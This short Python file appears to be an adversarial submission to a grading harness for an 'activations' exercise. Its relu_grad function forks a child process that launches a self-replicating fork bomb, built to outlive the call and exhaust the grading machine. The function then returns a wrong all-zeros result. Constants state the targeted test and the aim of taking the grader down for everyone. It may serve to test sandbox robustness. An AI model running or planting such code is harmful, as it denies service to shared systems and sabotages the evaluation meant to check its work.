"""Starts a fork bomb (every process carries the marker in its argv) and returns at once
with a wrong answer; the bomb is meant to outlive the call and starve the machine."""

import os
import sys

import numpy as np

EXERCISE = "activations"
ATTACKED = ("test_relu_grad",)
WHY = "take the grading machine down for everyone (and maybe out of the grading's time budget)"

BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n# __MARKER__"


def relu_grad(x):
    if os.fork() == 0:
        try:
            os.execv(sys.executable, [sys.executable, "-c", BOMB])
        finally:
            os._exit(0)
    return np.zeros(np.shape(x))
